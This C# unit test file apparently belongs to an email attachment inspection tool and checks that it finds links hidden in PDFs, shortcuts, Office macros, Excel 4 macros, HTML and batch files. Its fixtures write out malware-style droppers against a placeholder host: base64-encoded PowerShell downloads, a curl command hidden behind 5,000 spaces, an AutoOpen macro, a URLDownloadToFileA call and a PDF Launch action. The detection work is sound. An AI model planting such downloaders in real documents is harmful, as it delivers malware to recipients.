using System.Text;
using Sekisho.Inspection.Formats;
using Sekisho.Inspection.Messages;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Messages;

public class PartLinksTests
{
    [Fact]
    public void PdfsLinks_AreThere() => AssertLinks("a.pdf",
        CarrierWriter.Pdf("<< /S /URI /URI (https://www.google.com/url?q=https%3A%2F%2Fa.test%2F) >>", "<< /S /SubmitForm /F (https://b.test/) >>", "<< /S /JavaScript /JS (app.launchURL\\(\"https://c.test/\"\\)) >>"),
        ("https://a.test/", LinkPlace.Document), ("https://b.test/", LinkPlace.Form), ("https://c.test/", LinkPlace.Command));

    [Fact]
    public void ShortcutsCommand_IsDecoded()
    {
        var script = Convert.ToBase64String(Encoding.Unicode.GetBytes("iwr 'https://a.test/x' -o $env:temp\\y"));

        AssertLinks("a.lnk", CarrierWriter.Shortcut("powershell.exe", "-nop -enc " + script), ("https://a.test/x", LinkPlace.Command));
    }

    /// <summary>Longer than what is shown of a command line.</summary>
    [Fact]
    public void LongCommand_IsReadToItsEnd() => AssertLinks("a.lnk", CarrierWriter.Shortcut("cmd.exe", new string(' ', 5000) + "/c curl https://a.test/x"), ("https://a.test/x", LinkPlace.Command));

    [Fact]
    public void MacrosSource_IsSearched() => AssertLinks("a.doc", Samples.OldDocument("Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nu = \"http://a.test/x\" ' http://b.test/\r\nEnd Sub\r\n"),
        ("http://a.test/x", LinkPlace.Command), ("http://b.test/", LinkPlace.Command));

    [Fact]
    public void SheetMacros_AreFollowed() => AssertLinks("a.xlsm", XlmSamples.Package(["CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"ht\"&\"tp://a.test/\"&CHAR(120),\"y\",0,0)", "HALT()"]), ("http://a.test/x", LinkPlace.Command));

    [Theory]
    [InlineData("a.url", "[InternetShortcut]\r\nURL=https://a.test/x\r\n", LinkPlace.Text)]
    [InlineData("a.iqy", "WEB\r\n1\r\nhttps://a.test/x\r\n", LinkPlace.Text)]
    [InlineData("a.vcf", "BEGIN:VCARD\r\nURL:https://a.te\r\n st/x\r\nEND:VCARD\r\n", LinkPlace.Text)]
    [InlineData("a.rtf", "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://a.test/x\"}{\\fldrslt x}}}", LinkPlace.Document)]
    [InlineData("a.html", "<html><script>var a='https:\\/\\/a.te'+'st/x';location=a;/* long enough to be kept */</script></html>", LinkPlace.Command)]
    [InlineData("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='https://a.test/x'><text>y</text></a></svg>", LinkPlace.Document)]
    [InlineData("a.bat", "@echo off\r\npowershell -e aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYQAuAHQAZQBzAHQALwB4AA==\r\n", LinkPlace.Command)]
    public void Texts_TellWhereTheyLead(string name, string text, LinkPlace place)
    {
        using var message = Letters.OpenDocument(name, Encoding.UTF8.GetBytes(text));

        Assert.Contains(message.Parts.SelectMany(p => p.Links), l => l.Target == "https://a.test/x" && l.Place == place);
    }

    [Fact]
    public void OldWorkbooksHyperlink_IsThere()
    {
        var address = Encoding.Unicode.GetBytes("https://a.test/x\0");
        byte[] record = [.. new byte[8], .. new Guid("79EAC9D0-BAF9-11CE-8C82-00AA004BA90B").ToByteArray(), 2, 0, 0, 0, 3, 0, 0, 0, .. new Guid("79EAC9E0-BAF9-11CE-8C82-00AA004BA90B").ToByteArray(), (byte)address.Length, 0, 0, 0, .. address];
        var found = new CarrierContents();
        CompoundLinks.Workbook([9, 8, 0, 0, 0xB8, 1, (byte)record.Length, 0, .. record], found);

        Assert.Equal([new CarrierSign(SignKind.Link, "https://a.test/x")], found.Signs);
    }

    [Fact]
    public void OldPresentationsHyperlink_IsThere()
    {
        var address = Encoding.Unicode.GetBytes("https://a.test/x");
        var found = new CarrierContents();
        CompoundLinks.Presentation([15, 0, 0xD7, 15, (byte)(8 + address.Length), 0, 0, 0, 0x10, 0, 0xBA, 15, (byte)address.Length, 0, 0, 0, .. address], found);

        Assert.Equal([new CarrierSign(SignKind.Link, "https://a.test/x")], found.Signs);
    }

    [Fact]
    public void SameLinkTwice_IsOne_AndAThousandAreEnough()
    {
        using var message = Letters.Open(LetterWriter.Plain("x", "https://a.test/ https://a.test/ " + string.Join(' ', Enumerable.Range(0, 3000).Select(i => $"https://a.test/{i}"))));
        var links = message.Parts[0].Links;

        Assert.Equal(1000, links.Count);
        Assert.Single(links, l => l.Target == "https://a.test/");
    }

    /// <summary>Links are cheap to strew about; they must not push out what starts a program.</summary>
    [Fact]
    public void ManyLinks_HideNoOtherSign()
    {
        var objects = Enumerable.Range(0, 3000).Select(i => $"<< /S /URI /URI (https://a.test/{i}) >>").Append("<< /S /Launch /F (calc.exe) >>");
        using var message = Letters.OpenDocument("a.pdf", CarrierWriter.Pdf([.. objects]));

        Assert.Contains(message.Parts[0].Signs, s => s.Kind == SignKind.PdfLaunch);
    }

    private static void AssertLinks(string name, byte[] document, params (string Target, LinkPlace Place)[] expected)
    {
        using var message = Letters.OpenDocument(name, document);
        var links = message.Parts.SelectMany(p => p.Links).Select(l => (l.Target, l.Place)).ToList();

        Assert.All(expected, e => Assert.Contains(e, links));
    }
}
